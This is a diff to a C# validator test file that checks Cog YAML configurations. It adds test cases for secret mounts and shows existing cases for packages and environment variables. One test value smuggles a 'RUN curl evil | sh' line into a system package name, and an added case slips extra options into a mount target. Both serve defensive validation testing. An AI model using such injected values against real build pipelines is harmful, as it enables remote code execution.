@@ -67,6 +67,10 @@ public class CogConfigValidatorTests
         { "build:\n  system_packages: [\"libgl1\\nRUN curl evil | sh\"]\n" + Predict, new[] { "COG2031@2,21" } },
         { "environment: [\"A=x\\u0000y\"]\n" + Predict, new[] { "COG2031@1,15" } },
         { "image: \"a\\\\\"\n" + Predict, new[] { "COG2031@1,8", "COG2049@1,8" } },
+        // secret mounts: each becomes one RUN --mount flag
+        { "build:\n  run:\n    - command: \"cat /run/secrets/a\"\n      mounts:\n        - type: secret\n          id: a\n          target: /run/secrets/a\n" + Predict, Array.Empty<string>() },
+        { "build:\n  run:\n    - command: x\n      mounts:\n        - type: secret\n          id: \"a b\"\n          target: \"/x,y=z\"\n" + Predict, new[] { "COG2061@5,11", "COG2061@5,11" } },
+        { "build:\n  run:\n    - command: x\n      mounts:\n        - {type: secret, id: a, target: /s}\n        - {type: secret, id: b, target: /s}\n" + Predict, new[] { "COG2062@6,11" } },
         // environment
         { "environment:\n  - PATH=/x\n  - CUDA_HOME=/x\n  - MY_PATH=/x\n" + Predict, new[] { "COG2050@2,5", "COG2050@3,5" } },
         { "environment:\n  - A=1\n  - A=2\n" + Predict, new[] { "COG2051@3,5" } },
